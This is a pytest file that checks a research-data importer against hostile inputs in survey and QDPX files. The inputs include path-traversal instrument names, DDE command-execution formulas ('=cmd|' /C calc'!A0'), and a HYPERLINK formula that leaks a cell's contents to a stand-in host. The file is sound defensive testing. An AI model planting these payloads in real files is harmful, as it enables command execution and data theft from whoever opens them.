"""Hostile names and values in imported files (issue 11, importer side), each planted first:
paths out of the project, formulas in files people open, absurd nesting and offsets."""

from __future__ import annotations

import hashlib
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from test_interop_names import META, TEXT, G, make_qdpx

from copeval.cli import main
from copeval.errors import UnsafePathError
from copeval.interop import import_kobo, import_refi, write_import
from copeval.interop.refi import MAX_CODE_DEPTH

DATA = Path(__file__).resolve().parent / "data" / "interop"
FORMULA = "=cmd|' /C calc'!A0"
SITES = {"villa_canales": "VC", "totonicapan": "TOT"}


def _snapshot(folder: Path) -> dict:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _evil_items(tmp_path: Path) -> Path:
    items = pd.read_csv(DATA / "kobo_items.csv", dtype=str, keep_default_na=False)
    items["instrument"] = "../../../outside_evil"
    path = tmp_path / "evil_items.csv"
    items.to_csv(path, index=False)
    return path


def test_an_instrument_that_climbs_out_of_the_project_is_refused(tmp_path, capsys):
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    before = _snapshot(tmp_path)
    code = main(
        [
            "import",
            str(DATA / "kobo_community.csv"),
            "--into",
            str(work / "proj"),
            "--items",
            str(_evil_items(work)),
            "--site-column",
            "site",
            "--site-values",
            str(DATA / "kobo_sites.csv"),
        ]
    )
    err = capsys.readouterr().err.strip()
    assert code == 1 and len(err.splitlines()) == 1
    assert "instrument '../../../outside_evil.csv'" in err
    assert not list(tmp_path.rglob("outside_evil*"))
    after = _snapshot(tmp_path)
    assert set(after) - set(before) == {"a/b/c/evil_items.csv"}


def test_write_import_checks_the_instrument_too(tmp_path):
    """The Python API: a SurveyImport whose instrument was changed after reading."""
    r = import_kobo(
        DATA / "kobo_community.csv",
        items=DATA / "kobo_items.csv",
        site_column="site",
        site_values=SITES,
    )
    r.instrument = "../outside_evil"
    r.items = r.items.assign(instrument="../outside_evil")
    with pytest.raises(UnsafePathError, match=r"would point outside|not a safe relative path"):
        write_import(r, tmp_path / "p")
    assert not (tmp_path / "outside_evil.csv").exists() and not (tmp_path / "p").exists()


def _formula_project(tmp_path: Path) -> Path:
    codes = f'<Code guid="{G(1)}" name="{FORMULA}" isCodable="true"/>'
    return make_qdpx(tmp_path / "f.qdpx", codes, TEXT, [(0, 43, G(1))])


def test_foreign_code_names_in_the_mapping_template_cannot_run(tmp_path, capsys):
    template = tmp_path / "map.csv"
    args = ["import", str(_formula_project(tmp_path)), "--write-mapping", str(template)]
    assert main(args) == 0
    assert "leading apostrophe" in capsys.readouterr().err
    cells = pd.read_csv(template, dtype=str, keep_default_na=False)["external_name"].tolist()
    assert cells == ["'" + FORMULA]
    assert not template.read_text(encoding="utf-8").splitlines()[1].startswith("=")


def test_foreign_source_names_in_the_meta_template_cannot_run(tmp_path, capsys):
    path = tmp_path / "s.qdpx"
    make_qdpx(path, f'<Code guid="{G(1)}" name="C2.meetings"/>', TEXT, [(0, 43, G(1))])
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    members["project.qde"] = members["project.qde"].replace(
        b'name="entrevista"', b'name="@SUM(1+1)*cmd|calc"'
    )
    with zipfile.ZipFile(path, "w") as z:
        for n, data in members.items():
            z.writestr(n, data)
    template = tmp_path / "meta.csv"
    assert main(["import", str(path), "--meta-template", str(template)]) == 0
    table = pd.read_csv(template, dtype=str, keep_default_na=False)
    assert table["source"].tolist() == ["'@SUM(1+1)*cmd|calc"]


def test_a_formula_in_a_refi_notes_variable_is_neutralised_and_said(tmp_path):
    hostile = "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;ok&quot;)"
    path = make_qdpx(
        tmp_path / "n.qdpx",
        f'<Code guid="{G(1)}" name="C2.meetings"/>',
        TEXT,
        [(0, 43, G(1))],
        notes=hostile,
    )
    r = import_refi(path, sources_meta=META)
    note = r.sources["coder_notes"].iloc[0]
    assert note.startswith("'=HYPERLINK(")
    assert any("leading apostrophe" in w and "entrevista" in w for w in r.report.warnings)
    project = write_import(r, tmp_path / "p")
    stored = pd.read_csv(project.path / "sources.csv", dtype=str, keep_default_na=False)
    assert stored["coder_notes"].iloc[0].startswith("'=")


def test_a_deeply_nested_code_tree_is_one_line(tmp_path, capsys):
    depth = 5000
    codes = "".join(f'<Code guid="{G(1)[:-6]}{k:06d}" name="c{k}">' for k in range(depth))
    codes += "</Code>" * depth
    path = make_qdpx(tmp_path / "deep.qdpx", codes, TEXT, [])
    meta = tmp_path / "meta.csv"
    META.to_csv(meta, index=False)
    code = main(["import", str(path), "--into", str(tmp_path / "p"), "--sources-meta", str(meta)])
    err = capsys.readouterr().err.strip()
    assert code == 1 and len(err.splitlines()) == 1
    assert f"nested more than {MAX_CODE_DEPTH} levels" in err
    assert main(["import", str(path), "--write-mapping", str(tmp_path / "m.csv")]) == 1
    assert f"nested more than {MAX_CODE_DEPTH} levels" in capsys.readouterr().err
    assert not (tmp_path / "p").exists()


@pytest.mark.parametrize("start", [10**30, -5, "1e3"])
def test_absurd_offsets_are_one_line(tmp_path, capsys, start):
    path = make_qdpx(
        tmp_path / "o.qdpx", f'<Code guid="{G(1)}" name="C2.meetings"/>', TEXT, [(start, 40, G(1))]
    )
    meta = tmp_path / "meta.csv"
    META.to_csv(meta, index=False)
    code = main(["import", str(path), "--into", str(tmp_path / "p"), "--sources-meta", str(meta)])
    err = capsys.readouterr().err.strip()
    assert code == 1 and len(err.splitlines()) == 1 and "startPosition" in err
    assert not (tmp_path / "p").exists()
